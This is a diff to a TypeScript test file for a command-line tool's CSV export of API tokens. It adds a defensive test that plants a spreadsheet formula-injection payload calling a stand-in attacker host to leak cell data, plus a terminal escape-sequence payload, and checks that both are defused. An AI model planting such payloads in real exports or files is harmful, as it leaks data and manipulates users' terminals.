@@ -35,15 +35,37 @@ describe('-o csv', () => {
     const at = (h: string) => header.indexOf(h);
     expect(rows.map((r) => Number(r[at('id')]))).toEqual(tokens.map((t) => t.id));
     expect(rows.map((r) => r[at('name')])).toEqual(tokens.map((t) => t.name));
-    // A list value is written as JSON (commas and quotes inside a quoted field), so it reads back whole.
-    expect(rows.map((r) => JSON.parse(r[at('scopes')]))).toEqual(tokens.map((t) => t.scopes));
+    // A list value is plain text, its items joined by "; " (issue 41: not JSON in a spreadsheet cell).
+    expect(rows.map((r) => r[at('scopes')].split('; '))).toEqual(tokens.map((t) => t.scopes));
   });
 
-  it('keeps the --fields columns in their order, nested values as JSON', async () => {
+  it('keeps the --fields columns in their order, lists as plain text', async () => {
     const res = await run(['token', 'list', '--all', '--fields', 'name,scopes,expires_at', '-o', 'csv']);
     const [header, ...rows] = pythonCsv(res.stdout);
     expect(header).toEqual(['name', 'scopes', 'expires_at']);
     const dave = rows.find((r) => r[0] === 'dave-scripts');
-    expect(dave).toEqual(['dave-scripts', '["read_api"]', '']);
+    expect(dave).toEqual(['dave-scripts', 'read_api', '']);
+  });
+
+  it('token audit -o csv defuses a token name a spreadsheet would run as a formula, and escapes controls', async () => {
+    const sb = sandbox();
+    // Any user names their own tokens: dave makes two that never expire (an audit finding).
+    const dave = sb.state.findUser('dave')!;
+    const now = sb.state.clock.now();
+    const evil = '=HYPERLINK("http://evil.example.com/?x="&A1,"click")';
+    for (const name of [evil, 'title\u001b]0;owned\u0007\u009b2J']) {
+      sb.state.addToken({ userId: dave.id, name, description: null, scopes: ['read_api'], createdAt: now, updatedAt: now, lastUsedAt: now, expiresAt: null, revoked: false, impersonation: false, previousId: null, secret: `glpat-csv-test-${name.length}` });
+    }
+    const res = await run(['token', 'audit', '-o', 'csv']);
+    expect(res.stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
+    const [header, ...rows] = pythonCsv(res.stdout);
+    const names = rows.map((r) => r[header.indexOf('name')]);
+    expect(names).toContain(`'${evil}`);
+    expect(names).not.toContain(evil);
+    expect(names).toContain('title^[]0;owned^G\\x9b2J');
+    // Findings are plain text, as a person reads them.
+    const findings = rows.map((r) => r[header.indexOf('findings')]);
+    expect(findings).toContain('no-expiry');
+    expect(findings.join('\n')).not.toContain('[');
   });
 });
